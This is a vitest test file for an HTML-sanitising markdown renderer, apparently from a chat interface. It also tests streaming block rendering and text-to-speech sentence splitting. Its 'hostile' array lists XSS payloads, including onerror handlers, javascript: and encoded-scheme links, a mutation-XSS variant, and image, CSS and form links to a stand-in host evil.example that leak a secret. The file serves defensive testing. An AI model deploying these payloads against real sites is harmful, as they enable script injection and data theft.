import { describe, expect, it } from 'vitest';
import { renderBlocks, sentenceEnd, spoken } from '../src/lib/markdown';

const html = (source: string) => renderBlocks(source).join('');
function dom(source: string): HTMLElement {
  const element = document.createElement('div');
  element.innerHTML = html(source);
  return element;
}

const hostile = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '<javascript:alert(1)>',
  '![x](https://evil.example/p.png?c=secret)',
  '![x](javascript:alert(1))',
  '![x][r]\n\n[r]: https://evil.example/p.png',
  '[x](https://ok.example "onmouseover=alert(1) x=\\"")',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```<img/src=x/onerror=alert(1)>\ntext\n```',
  '```"><img src=x onerror=alert(1)>\ntext\n```',
  '`<img src=x onerror=alert(1)>`',
  '<style>*{background:url(https://evil.example)}</style>',
  '<form action=https://evil.example><input name=q><button>Go</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '# <u onclick=alert(1)>title</u>',
];

describe('an answer as HTML', () => {
  it.each(hostile)('is harmless: %s', (source) => {
    const root = dom(source);
    expect(root.querySelector('img, script, svg, iframe, object, embed, style, form, input, math, link, base, meta, video, audio')).toBeNull();
    for (const element of root.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name.startsWith('on')).toBe(false);
        expect(name).not.toBe('style');
        if (name === 'href') expect(value).toMatch(/^(https?|mailto):/i);
      }
    }
  });

  it('opens links elsewhere without a way back', () => {
    const link = dom('[ok](https://example.org) and https://example.com').querySelectorAll('a');
    expect(link).toHaveLength(2);
    for (const a of link) {
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
      expect(a.getAttribute('target')).toBe('_blank');
    }
  });

  it('shows an image as a link, so that nothing is fetched unasked', () => {
    expect(dom('![cat](https://example.org/cat.png)').querySelector('a')?.textContent).toBe('cat');
  });

  it('colours code of a known language and escapes the rest', () => {
    expect(dom('```python\ndef f(): pass\n```').querySelector('.hljs-keyword')?.textContent).toBe('def');
    const plain = dom('```nosuch\n<b>&\n```');
    expect(plain.querySelector('code')?.textContent).toBe('<b>&\n');
    expect(plain.querySelector('button[data-copy]')).not.toBeNull();
  });

  it('keeps its text', () => {
    expect(dom('a <b>bold</b> & "quoted"').textContent?.trim()).toBe('a <b>bold</b> & "quoted"');
  });

  it('changes only its last block while it grows', () => {
    const source = 'First **paragraph**.\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n\nLast words here.';
    let before: string[] = [];
    for (let end = 1; end <= source.length; end++) {
      const blocks = renderBlocks(source.slice(0, end));
      // A block before the last two is settled: a list may still take the next line in, or not.
      for (let i = 0; i < before.length - 2; i++) expect(blocks[i]).toBe(before[i]);
      before = blocks;
    }
    expect(before).toHaveLength(4);
  });
});

describe('reading aloud', () => {
  it('waits for the end of a sentence', () => {
    expect(sentenceEnd('Half a sent', 0)).toBe(0);
    const text = 'One. Two is 3.5 long! And th';
    expect(text.slice(0, sentenceEnd(text, 0))).toBe('One. Two is 3.5 long! ');
    expect(sentenceEnd(text, 22)).toBe(22);
    expect(sentenceEnd('a line\nnext', 0)).toBe(7);
  });

  it('leaves the marks out', () => {
    expect(spoken('## Title\n- **bold** and `code` and [link](https://x)')).toBe('Title\nbold and code and link');
  });
});
